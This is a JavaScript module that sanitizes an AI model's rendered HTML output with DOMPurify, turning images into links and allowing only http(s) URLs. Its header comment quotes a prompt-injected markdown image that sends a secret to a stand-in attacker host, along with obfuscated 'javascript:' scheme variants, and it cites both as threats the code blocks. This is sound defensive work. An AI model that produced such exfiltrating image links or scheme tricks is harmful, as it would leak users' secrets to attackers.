import { DOMPurify } from '/static/vendor.js';

/**
 * The one place model output becomes DOM, parsed by DOMPurify in an inert document (nothing fetched
 * or run). Images become links, so a prompt-injected `![x](https://attacker/?d=SECRET)` fetches
 * nothing; links keep only absolute http(s) URLs as the browser's own URL parser reads them
 * (`JaVaScRiPt:`, `java&#x09;script:`). Nothing that loads or runs is allowed: CSP is the second wall.
 */

const ALLOWED_TAGS = [
  'a', 'abbr', 'b', 'blockquote', 'br', 'code', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'input', 'ins', 'kbd', 'li', 'mark', 'ol', 'p',
  'pre', 'q', 's', 'samp', 'small', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody',
  'td', 'tfoot', 'th', 'thead', 'tr', 'u', 'ul', 'var',
];
const ALLOWED_ATTR = ['href', 'title', 'class', 'align', 'start', 'type', 'checked', 'disabled', 'colspan', 'rowspan'];
const MAX_HREF_LENGTH = 2048;
const SHOWN_HREF_LENGTH = 200;
/** Only the language class marked puts on fenced code survives; any other class could dress
 *  model output up as the page's own controls. */
const LANGUAGE_CLASS = /^language-[\w+#.-]{1,40}$/;

const PURIFY_CONFIG = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ALLOWED_URI_REGEXP: /^https?:/i,
  RETURN_DOM_FRAGMENT: true,
};

/** Returns the URL when `value` is an absolute http(s) URL short enough to show, else null. */
export function safeHttpUrl(value) {
  if (typeof value !== 'string' || value.length > MAX_HREF_LENGTH) return null;
  let url;
  try {
    url = new URL(value.trim());
  } catch {
    return null; // relative or malformed: nothing we can vouch for
  }
  return url.protocol === 'http:' || url.protocol === 'https:' ? url : null;
}

function shorten(text) {
  return text.length > SHOWN_HREF_LENGTH ? `${text.slice(0, SHOWN_HREF_LENGTH - 1)}…` : text;
}

/** The link goes right after the image, so DOMPurify's walk sanitizes it next; `img` itself is not allowed. */
function replaceImageWithLink(node, data) {
  if (data.tagName !== 'img') return;
  const doc = node.ownerDocument;
  const alt = (node.getAttribute('alt') || '').trim();
  const url = safeHttpUrl(node.getAttribute('src') || '');
  const replacement = doc.createElement(url ? 'a' : 'span');
  replacement.className = 'image-link';
  if (url) {
    replacement.setAttribute('href', url.href);
    replacement.textContent = `Image: ${alt || 'untitled'} (${url.host}) — open`;
  } else {
    replacement.textContent = `[image: ${alt || 'untitled'}]`;
  }
  node.after(replacement);
}

function finishAttributes(node) {
  if (node.hasAttribute('class')) keepOnlyLanguageClass(node);
  if (node.nodeName === 'A') secureLink(node);
  if (node.nodeName === 'INPUT') {
    // marked emits task-list checkboxes; nothing else may become a form control.
    node.setAttribute('type', 'checkbox');
    node.setAttribute('disabled', '');
  }
}

function keepOnlyLanguageClass(node) {
  const ownClass = node.getAttribute('class');
  const isOurs = ownClass === 'image-link' && (node.nodeName === 'A' || node.nodeName === 'SPAN');
  if (isOurs) return;
  const kept = ownClass.split(/\s+/).filter((name) => node.nodeName === 'CODE' && LANGUAGE_CLASS.test(name));
  if (kept.length) node.setAttribute('class', kept.join(' '));
  else node.removeAttribute('class');
}

function secureLink(anchor) {
  const url = safeHttpUrl(anchor.getAttribute('href'));
  if (!url) {
    anchor.removeAttribute('href');
    anchor.removeAttribute('title');
    return;
  }
  anchor.setAttribute('href', url.href);
  // Link text can claim one address while the href points at another: always show the real one.
  anchor.setAttribute('title', shorten(url.href));
  anchor.setAttribute('target', '_blank');
  anchor.setAttribute('rel', 'noopener noreferrer');
  anchor.setAttribute('referrerpolicy', 'no-referrer');
}

let hooksInstalled = false;

function installHooks() {
  if (hooksInstalled) return;
  DOMPurify.addHook('uponSanitizeElement', replaceImageWithLink);
  DOMPurify.addHook('afterSanitizeAttributes', finishAttributes);
  // Once: a config passed to each sanitize() rebuilds the allow-lists, on every streamed frame.
  DOMPurify.setConfig(PURIFY_CONFIG);
  hooksInstalled = true;
}

/** Sanitizes an HTML string into a DocumentFragment that is safe to append to the page. */
export function sanitizeToFragment(html) {
  installHooks();
  return DOMPurify.sanitize(html);
}
